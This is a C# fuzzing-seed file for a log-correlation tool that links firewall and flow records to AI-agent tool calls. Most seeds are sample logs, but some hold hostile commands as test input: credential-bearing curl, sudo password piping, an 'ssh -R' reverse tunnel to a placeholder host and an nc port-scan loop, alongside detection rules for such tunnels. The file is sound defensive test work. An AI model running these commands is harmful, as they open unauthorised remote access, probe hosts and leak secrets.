// SPDX-License-Identifier: Apache-2.0
namespace FwCorrelate.Fuzzing;

/// <summary>Good texts of each kind, as short as they can be and hold all that a reader looks at.</summary>
internal static class Seeds
{
    public const string VpcFlow = """
        version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status
        2 123456789012 eni-1 10.40.1.16 198.51.100.40 40000 7844 6 10 1000 1770714007 1770714067 ACCEPT OK
        2 123456789012 eni-1 10.40.1.16 2001:db8::1 40001 22 17 1 40 1770714010 1770714060 REJECT OK
        2 123456789012 eni-1 - - - - - - - 1770714010 1770714060 - NODATA
        2 123456789012 eni-1 - - - - - - - 1770714010 1770714060 - SKIPDATA

        """;

    public const string VpcFlowObjects = """
        {"version":7,"account_id":"123456789012","interface_id":"eni-1","srcaddr":"10.40.1.16","dstaddr":"198.51.100.40","srcport":40000,"dstport":"7844","protocol":6,"packets":10,"bytes":1000,"start":1770714007,"end":"2026-02-10T09:01:07Z","action":"ACCEPT","log_status":"OK","tcp_flags":2,"flow_direction":"egress","pkt_srcaddr":"10.9.9.9","pkt_dstaddr":null}
        {"interface_id":"eni-1","start":1770714010,"end":1770714060,"log_status":"NODATA"}

        """;

    /// <summary>By format of who held which address.</summary>
    public static IReadOnlyList<(string Format, string[] Texts)> Identity { get; } =
    [
        ("kubernetes-pods",
        [
            """
            {"apiVersion":"v1","items":[{"kind":"Pod","metadata":{"name":"a","namespace":"n","uid":"u-a","labels":{"sample":"s-1"}},"spec":{"nodeName":"node-1"},"status":{"phase":"Failed","podIP":"10.1.0.5","podIPs":[{"ip":"10.1.0.5"},{"ip":"fd00::5"}],"hostIP":"10.0.0.2","startTime":"2026-01-15T03:00:00Z","containerStatuses":[{"containerID":"containerd://4f1c0a9be2d3","state":{"terminated":{"finishedAt":"2026-01-15T03:10:00Z"}}}]}}],"kind":"List"}

            """,
            """
            {"type":"ADDED","object":{"kind":"Pod","metadata":{"name":"b","uid":"u-b"},"spec":{"nodeName":"node-1","hostNetwork":true},"status":{"podIP":"10.0.0.2","hostIP":"10.0.0.2","startTime":"2026-01-15T03:00:00Z"}}}
            {"kind":"Event","apiVersion":"audit.k8s.io/v1","verb":"delete","objectRef":{"resource":"pods","name":"b"},"responseObject":{"kind":"Pod","metadata":{"name":"b","uid":"u-b","deletionTimestamp":"2026-01-15T04:00:00Z"},"spec":{},"status":{"startTime":"2026-01-15T03:00:00Z"}}}

            """,
        ]),
        ("docker",
        [
            """
            [{"Id":"4f1c0a9be2d3","Name":"/x","State":{"Running":false,"StartedAt":"2026-01-15T03:00:00Z","FinishedAt":"2026-01-15T03:30:00Z"},"HostConfig":{"NetworkMode":"bridge"},"Config":{"Hostname":"h","Labels":{"a":"b"}},"NetworkSettings":{"Networks":{"bridge":{"IPAddress":"172.17.0.4"}}}}]
            """,
            """
            {"Type":"container","Action":"die","Actor":{"ID":"4f1c0a9be2d3","Attributes":{"name":"x"}},"scope":"local","time":1768446000,"timeNano":1768446000500000000}
            {"Type":"network","Action":"connect","Actor":{"ID":"n","Attributes":{"container":"4f1c0a9be2d3"}},"scope":"local","time":1768446000}

            """,
        ]),
        ("rock-sandboxes",
        [
            """
            {"sandbox_id":"ab12","host_ip":"10.8.3.21","host_name":"wk1","state":"stopped","create_time":"2026-01-15T03:00:00Z","start_time":"2026-01-15T03:00:05Z","stop_time":"2026-01-15T04:00:00Z"}

            """,
        ]),
        ("aws-network-interfaces",
        [
            """
            {"NetworkInterfaces":[{"NetworkInterfaceId":"eni-1","VpcId":"vpc-1","InterfaceType":"nat_gateway","Description":"x","PrivateIpAddresses":[{"PrivateIpAddress":"10.0.1.5","Association":{"PublicIp":"203.0.113.5"}}],"Ipv6Addresses":[{"Ipv6Address":"fd00::1"}],"Attachment":{"InstanceId":"i-1","Status":"attached","AttachTime":"2026-01-15T03:00:00Z"}}]}
            """,
        ]),
        ("alibaba-network-interfaces",
        [
            """
            {"NetworkInterfaceSets":{"NetworkInterfaceSet":[{"NetworkInterfaceId":"eni-a","Type":"Primary","InstanceId":"i-a","VpcId":"vpc-9","CreationTime":"2026-01-15T03:00:00Z","PrivateIpAddress":"10.9.0.5","PrivateIpSets":{"PrivateIpSet":[{"PrivateIpAddress":"10.9.0.5","AssociatedPublicIp":{"PublicIpAddress":"203.0.113.9"}}]}}]}}
            """,
        ]),
    ];

    public const string LogMapping = """
        name: gateway
        kind: log
        files: [logs/gw/**, "logs/*.csv"]
        form: csv
        absent: "-"
        duration_unit: ms
        stamp_is_end: true
        counts: both_ways
        tcp_flags: letters
        columns: {time: when, duration: took, source: src, source_port: sport, destination: dst, destination_port: [dport, port], protocol: proto, action: verdict, bytes_sent: out, tcp_flags: flags}
        actions: {allow: [permitted], deny: [blocked, refused]}
        directions: {outbound: out}
        slack: 2s

        """;

    public const string MappedLog = """
        when,took,src,sport,dst,dport,proto,verdict,out,flags
        2026-01-15T03:12:44Z,1500,10.0.0.5,40112,198.51.100.23,3333,tcp,permitted,1234,SA
        1768446764,-,10.0.0.5,40113,"198.51.100.24",443,udp,blocked,-,

        """;

    public const string TraceMapping = """
        name: home
        kind: trace
        form: csv
        columns: {start: t0, end: t1, duration: d, command: cmd, arguments: args, tool: tool, call: id, turn: n, episode: ep, run: run, step: step, task: task, sandbox: box, host: host, address: ip}

        """;

    public const string MappedTrace = """"
        t0,t1,d,tool,cmd,args,id,n,ep,run,step,task,box,host,ip
        2026-01-15T03:12:40Z,2026-01-15T03:12:48Z,,bash,"echo a
        ./m ""x""",{},c1,1,e1,r1,3,t1,s1,h1,10.0.0.5
        1768446764.5,,2.5,bash,ls,,c2,2,e1,r1,3,t1,s1,h1,10.0.0.5

        """";

    public const string VpcFlowOwnColumns = """
        version vpc-id interface-id type srcaddr dstaddr srcport dstport pkt-srcaddr pkt-dstaddr protocol bytes packets start end action tcp-flags flow-direction log-status
        5 vpc-1 eni-1 IPv4 10.40.1.5 203.0.113.44 38810 7844 10.40.1.5 203.0.113.44 6 424 2 1770714000 1770714015 ACCEPT 2 egress OK
        version start end srcaddr dstaddr
        2 1770714000 1770714015 10.40.1.5 203.0.113.44

        """;

    public const string VpcFlowEnvelope = """
        {"messageType":"DATA_MESSAGE","owner":"1","logGroup":"g","logStream":"s","subscriptionFilters":["f"],"logEvents":[{"id":"1","timestamp":1770714007000,"message":"2 123456789012 eni-1 10.40.1.16 198.51.100.40 40000 7844 6 10 1000 1770714007 1770714067 ACCEPT OK"},{"id":"2","timestamp":1770714007000,"message":"2 123456789012 eni-1 10.40.1.16 198.51.100.41 40001 22 6 1 40 1770714010 1770714060 REJECT OK"}]}
        {"messageType":"CONTROL_MESSAGE","logEvents":[{"id":"1","timestamp":1,"message":"CWL CONTROL MESSAGE: Checking health of destination Firehose."}]}

        """;

    public const string VpcFlowEvents = """
        {"message":"2 123456789012 eni-1 10.40.1.16 198.51.100.40 40000 7844 6 10 1000 1770714007 1770714067 ACCEPT OK"}
        {"@timestamp":"x","@message":"2 123456789012 eni-1 10.40.1.16 198.51.100.40 40000 7844 6 10 1000 1770714007 1770714067 ACCEPT OK"}

        """;

    public const string CloudFirewall = """
        {"__topic__":"cloudfirewall_access_log","__time__":"1768417999","log_type":"internet_log","src_ip":"198.51.100.20","src_port":"51022","dst_ip":"203.0.113.77","dst_port":22,"ip_protocol":"TCP","start_time":"1768417381","end_time":1768417681,"rule_result":"pass","direction":"out","total_packet_bytes":"280353","in_packet_count":"2","out_packet_count":3,"ips_rule_id":"00000000-0000-0000-0000-000000000000","country_id":"YY","domain":"a.example","app_name":"SSH"}
        {"__topic__":"cloudfirewall_access_log","log_type":"nat_firewall_log","src_ip":"198.51.100.20","src_private_ip":"10.0.0.1","src_port":"51022","dst_ip":"203.0.113.77","dst_port":22,"ip_protocol":"6","start_time":"2026-10-25 02:30:00","end_time":"2026-10-25 02:31:00","rule_result":"al\u0065rt","direction":"out","ips_rule_name":"x"}

        """;

    public const string CloudFirewallCsv = """
        start_time,end_time,src_ip,src_port,dst_ip,dst_port,ip_protocol,rule_result,direction,log_type,total_packet_bytes
        1768417381,1768417681,198.51.100.20,51022,203.0.113.77,22,tcp,pass,out,internet_log,280353
        "2026-03-29 02:30:00","2026-03-29 02:30:09",198.51.100.20,51022,"203.0.113.77",22,tcp,alert,in,internet_log,1

        """;

    public const string AlibabaFlow = """
        {"__topic__":"flow_log","version":"1","vm-id":"i-1","eni-id":"eni-1","region":"cn-hangzhou","account-id":"9","srcaddr":"10.8.3.21","srcport":"51022","dstaddr":"203.0.113.77","dstport":"22","protocol":"6","direction":"out","packets":"288","bytes":"19224","start":"1768417381","end":"1768417440","log-status":"OK","action":"REJECT","tcp-flags":"2","traffic_path":"natGateway"}
        {"__topic__":"flow_log","eni-id":"eni-1","srcaddr":"-","dstaddr":"-","start":"1768417381","end":"1768417440","log-status":"NODATA"}

        """;

    public const string AlibabaFlowCsv = """
        version,eni-id,srcaddr,srcport,dstaddr,dstport,protocol,packets,bytes,start,end,log-status,action,direction
        1,eni-1,10.8.3.21,51022,203.0.113.77,22,6,288,19224,1768417381,1768417440,OK,REJECT,out

        """;

    public const string EcsFlow = """
        {"@timestamp":"2026-02-10T09:00:00.000000Z","ecs":{"version":"9.4.0"},"event":{"kind":"event","type":["connection","allowed"],"start":"2026-02-10T09:00:00.000000Z","end":"2026-02-10T09:00:15.000000Z","duration":15000000000,"original":"5 vpc-1 \"eni-1\" \ud83d\ude00","action":"ACCEPT"},"source":{"ip":"10.40.1.5","port":38810},"destination":{"ip":"203.0.113.44","port":7844},"network":{"transport":"tcp","iana_number":"6","bytes":424,"packets":2,"direction":"outbound"},"observer":{"ingress":{"interface":{"name":"eni-1"}}},"fwcorrelate":{"record":{"index":3,"direction":"outbound","loss":"none","format":"aws-vpc-flow","tcp_flags":18,"network":["vpc-1"],"sha256":"fd8491b52eec7d6e2d77ea05c2b45f6ea4322594029bfc5f97991d7f201783e4"}}}

        """;

    public const string EcsHit = """
        {"_index":"logs-a","_id":"x1","_source":{"event.start":"2026-02-10T10:00:00+01:00","event.end":"1770714015000","@timestamp":"2026-02-10T09:00:00Z","source.ip":["10.40.1.5"],"source.port":38810,"destination.ip":"203.0.113.44","destination.port":"7844","network":{"iana_number":6,"bytes":424,"packets":2,"direction":"EGRESS"},"event":{"action":"Accept"}}}

        """;

    public const string EcsVendor = """
        {"aws":{"vpcflow":{"action":"REJECT","tcp_flags":"2","log_status":"OK","pkt_srcaddr":"10.0.0.9","interface_id":"eni-1"}},"event":{"start":"2026-02-10T09:00:00.000Z","end":"2026-02-10T09:00:30.000Z","type":"connection"},"source":{"ip":"10.0.0.1","port":40000,"bytes":60},"destination":{"ip":"203.0.113.9","port":22},"network":{"bytes":60,"packets":1,"iana_number":"6","direction":"egress"},"@timestamp":"2026-02-10T09:00:30.000Z"}
        {"@timestamp":"2026-02-10T09:00:00Z","event":{"duration":2500000000,"type":["connection","start","end"]},"zeek":{"connection":{"state":"REJ","history":"Sr"}},"source":{"ip":"10.0.0.1","port":40000},"destination":{"ip":"10.0.0.2","port":22},"network":{"transport":"tcp","bytes":100,"packets":4,"direction":"outbound"}}
        {"@timestamp":"2026-02-10T09:00:01Z","event":{"kind":"alert","start":"2026-02-10T09:00:00Z","type":["allowed"]},"suricata":{"eve":{"event_type":"alert","in_iface":"e0"}},"source":{"ip":"10.0.0.1","port":40000,"bytes":60},"destination":{"ip":"10.0.0.2","port":22,"bytes":40},"network":{"transport":"tcp"}}

        """;

    public const string Otlp = """
        {"resourceSpans":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"env"}},{"key":"sandbox.id","value":{"stringValue":"sb1"}},{"key":"host.ip","value":{"arrayValue":{"values":[{"stringValue":"10.9.0.11"}]}}}]},"scopeSpans":[{"scope":{"name":"s"},"spans":[{"traceId":"0af7651916cd43dd8448eb211c800001","spanId":"000000000abc0001","parentSpanId":"000000000abc0000","name":"execute_tool bash","kind":1,"startTimeUnixNano":"1768885200000000000","endTimeUnixNano":1768885220000000000,"status":{"code":2},"attributes":[{"key":"gen_ai.operation.name","value":{"stringValue":"execute_tool"}},{"key":"gen_ai.tool.name","value":{"stringValue":"bash"}},{"key":"gen_ai.tool.call.id","value":{"stringValue":"c0"}},{"key":"gen_ai.tool.call.arguments","value":{"stringValue":"{\"command\": \"curl -su a:b http://203.0.113.7/ \ud83d\ude00\"}"}},{"key":"rl.run.id","value":{"stringValue":"run-1"}},{"key":"rl.episode.id","value":{"stringValue":"ep-1"}},{"key":"rl.step","value":{"intValue":"3"}}]},{"traceId":"0af7651916cd43dd8448eb211c800001","spanId":"000000000abc0000","name":"chat m","startTimeUnixNano":"1768885100000000000","endTimeUnixNano":"1768885300000000000","attributes":[{"key":"gen_ai.operation.name","value":{"stringValue":"chat"}},{"key":"gen_ai.output.messages","value":{"stringValue":"[{\"role\":\"assistant\",\"parts\":[{\"type\":\"tool_call\",\"id\":\"c0\",\"name\":\"bash\",\"arguments\":{\"command\":\"ls\"}}]}]"}}],"events":[{"name":"e","timeUnixNano":"1768885200000000000"}]}]}]}]}

        """;

    public const string OtlpConsole = """
        {
            "name": "execute_tool bash",
            "context": {"trace_id": "0x0af7651916cd43dd8448eb211c800001", "span_id": "0x000000000abc0001", "trace_state": "[]"},
            "kind": "SpanKind.INTERNAL", "parent_id": null,
            "start_time": "2026-01-20T05:00:00.000000Z", "end_time": "2026-01-20T05:00:20.000000Z",
            "attributes": {"gen_ai.tool.name": "bash", "gen_ai.tool.call.arguments": "{\"command\": \"ls\"}"},
            "events": [], "links": [], "resource": {"attributes": {"sandbox.id": "sb1"}, "schema_url": ""}
        }

        """;

    public const string EcsSpan = """
        {"@timestamp":"1795430817817.398290","trace_id":"abbf6857a1a8a03d4484318ff5b160d5","span_id":"fc9c5fac8b6973f5","name":"execute_tool bash","duration":1500000001,"attributes":{"gen_ai.operation.name":"execute_tool","gen_ai.tool.name":"bash","gen_ai.tool.call.id":"c1","gen_ai.tool.call.arguments":"{\"command\":\"ls\"}","rl.episode.id":"e1"},"resource":{"attributes":{"rl.run.id":"r1","sandbox.id":"sb1"}}}
        {"_index":"traces","_id":"1","_source":{"@timestamp":"2026-11-23T10:46:57.81739829Z","TraceId":"abbf6857a1a8a03d4484318ff5b160d5","SpanId":"fc9c5fac8b6973f5","Name":"execute_tool bash","Duration":1500000,"EndTimestamp":"2026-11-23T10:46:59.317398291Z","Attributes":{"gen_ai":{"operation":{"name":"execute_tool"},"tool":{"name":"bash","call":{"id":"c1","arguments":"{\"command\":\"ls\"}"}}},"rl":{"episode":{"id":"e1"}}},"Resource":{"rl":{"run":{"id":"r1"}},"sandbox":{"id":"sb1"}}}}

        """;

    public const string EcsCall = """
        {"@timestamp":"2026-02-10T09:02:04.949000Z","event":{"action":"execute_tool","start":"2026-02-10T09:02:04.949000Z","end":"2026-02-10T09:02:18.731000Z"},"trace":{"id":"63aa"},"span":{"id":"85aa"},"gen_ai":{"tool":{"name":"bash","call":{"id":"call_1"}}},"host":{"id":"node-1"},"fwcorrelate":{"run":{"id":"r"},"episode":{"id":"ep","start":"2026-02-10T09:02:02.600000Z","end":"2026-02-10T09:15:51.729000Z","sandbox":"sb3","turns":45,"turns_with_calls":44,"turns_without_tools":1},"sandbox":{"id":"sb3","address":"10.0.0.3"},"command":"wc -l","call":{"open":false,"start_basis":"clock","start_uncertainty_ms":3,"end_basis":"clock_naive","end_uncertainty_ms":0},"record":{"index":7,"sha256":"fd8491b52eec7d6e2d77ea05c2b45f6ea4322594029bfc5f97991d7f201783e4"}}}

        """;

    public const string EcsLease = """
        {"@timestamp":"2026-02-10T08:00:00.000000Z","event":{"kind":"state","start":"2026-02-10T08:00:00.000000Z"},"host":{"name":"w1"},"fwcorrelate":{"lease":{"address":"10.0.0.0/24","owner_kind":"host","owner_id":"w1","network":"vpc-1","inventory":true,"port_from":5,"port_to":9}}}

        """;

    public const string Leases = """
        # who held what
        address,owner_kind,owner_id,host,from,to,network,port_from,port_to
        10.8.0.0/24,sandbox,sb-1,h1,2026-01-15T04:00:00Z,2026-01-15T05:00:00+00:00,vpc-1,1000,2000
        2001:db8::1,host,"h,1",h1,2026-01-15T04:00:00.5Z,,,,

        """;

    public const string Case = """
        sources: {firewall: logs/cfw/**, flows: logs/vpc/**}
        zones: {firewall: Asia/Shanghai}
        clock_offsets: {flows: 23s}
        internal_networks: [10.0.0.0/8, "fd00::/8"]
        window: {before: 2s, after: 30s}
        idle_timeout: 15m
        infrastructure:
          - {to: "*.argotunnel.com", ports: [7844], from: hosts, why: trainer tunnel, by: ml-infra, until: 2026-12-31}
        slack: {flows: 2s}
        attributes: {sandbox: my.sandbox.attr}
        gpu_hour_price: {amount: 2.4, currency: USD}
        redact: {arguments: truncate}
        custody: {case: "0412", examiner: "x"}

        """;

    public const string Rule = """
        title: Outbound SSH
        id: a7109214-089b-5bce-83ae-e90169850453
        name: ssh
        status: test
        date: 2026-11-23
        tags: [attack.t1021.004]
        logsource: {product: fwcorrelate, service: flow}
        detection:
          selection:
            dst_port: 22
            dst_ip|cidr: [203.0.113.0/24, '2001:db8::/32']
          filter:
            dst_domain|endswith|windash: ['.example', "*.org"]
            src_port|gte: 1024
          words|re: '^a(b|c)+\d{1,3}$'
          condition: selection and not 1 of filter* or words
        level: high

        """;

    public const string Correlation = """
        title: Call
        name: call
        logsource: {product: fwcorrelate, service: tool_call}
        detection: {s: {CommandLine|contains|all: [ssh, -R]}, condition: s}
        level: low
        ---
        title: Both
        id: 5641f496-4f9e-50e7-8e8b-6891961e190a
        correlation:
          type: temporal_ordered
          rules: [call, ssh]
          group-by: [sandbox.id]
          timespan: 10m
          aliases: {ip: {call: host.ip, ssh: src_ip}}
        level: high
        ---
        title: Many
        correlation: {type: value_count, rules: [ssh], group-by: [src_ip], timespan: 5m, condition: {field: dst_ip, gte: 10}}

        """;

    public const string FilterRule = """
        title: Not ours
        logsource: {product: fwcorrelate, service: flow}
        filter:
          rules: [ssh]
          selection: {dst_ip: 203.0.113.1}
          condition: not selection

        """;

    public const string Indicators = """
        name: pools
        title: Pools
        sources: [nowhere]
        retrieved: 2026-11-23
        mode: extend
        values:
          - pool.example
          - '*.other.example'

        """;

    public const string Examples = """
        rule: ssh
        matches:
          - {src_ip: 10.77.1.11, src_port: 40001, dst_ip: 203.0.113.66, dst_port: 22, protocol: tcp, action: allow}
        misses:
          - {src_ip: 10.77.1.11, dst_port: 443}
        fires:
          - - {after: 0s, dst_port: 22}
            - {after: 5s, CommandLine: 'ssh -R'}
        quiet: []

        """;

    public const string EventsYaml = """
        - {src_ip: 10.77.1.11, src_port: 40001, dst_ip: 203.0.113.66, dst_port: 22, protocol: tcp, action: allow,
            start: 2026-01-15T04:00:00Z}
        - {CommandLine: 'ssh -R 2222:localhost:22 a@203.0.113.7', tool.name: bash, sandbox.id: sb1, attribution.kind: tool_call}

        """;

    public const string EventsJson = """
        [{"src_ip":"10.77.1.11","dst_port":22,"protocol":"tcp","after":"5s"},{"CommandLine":"ls","turn":3}]
        """;

    public const string Manifest = """
        {"tool":{"name":"fwcorrelate","version":"0.1.0"},"case":{"path":""},"arguments":["investigate","x"],"inputs":[{"path":"logs/a.log","role":"log","bytes":10,"sha256":"fd8491b52eec7d6e2d77ea05c2b45f6ea4322594029bfc5f97991d7f201783e4","records":1},{"path":"-","role":"log","bytes":1,"sha256":""}],"rules":{"sha256":"x","files":[{"path":"rules/a.yml","bytes":1,"sha256":"x"}]},"outputs":[{"path":"incidents.jsonl","bytes":0,"sha256":"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}]}
        """;

    public const string Attributions = """
        {"event":{"start":"2026-01-15T04:00:00Z"},"fwcorrelate":{"record":{"file":"logs/a.log","line":2,"index":0,"offset":115,"sha256":"fd8491b52eec7d6e2d77ea05c2b45f6ea4322594029bfc5f97991d7f201783e4"},"evidence":[{"role":"flow","file":"logs/a.log","line":2,"index":0,"offset":115,"sha256":"fd84"}]}}

        """;

    public const string Commands = """
        echo hunter2pass | sudo -S id; curl -su admin:hunter2pass "http://u:p@203.0.113.7/?key=abcdEFGH12345678"
            && PASSWORD="a""b" ./x <<< 'tok' > /tmp/a 2>&1 &
        cat > x.py <<'EOF'
        requests.get(u, auth=('u','pw'), headers={"Authorization": "Bearer abc.def"})
        EOF
        bash -c "ssh -fN -R 2222:localhost:22 dev@203.0.113.7; for i in $(seq 1 10); do nc -z 10.0.0.$i 22; done"

        """;
}
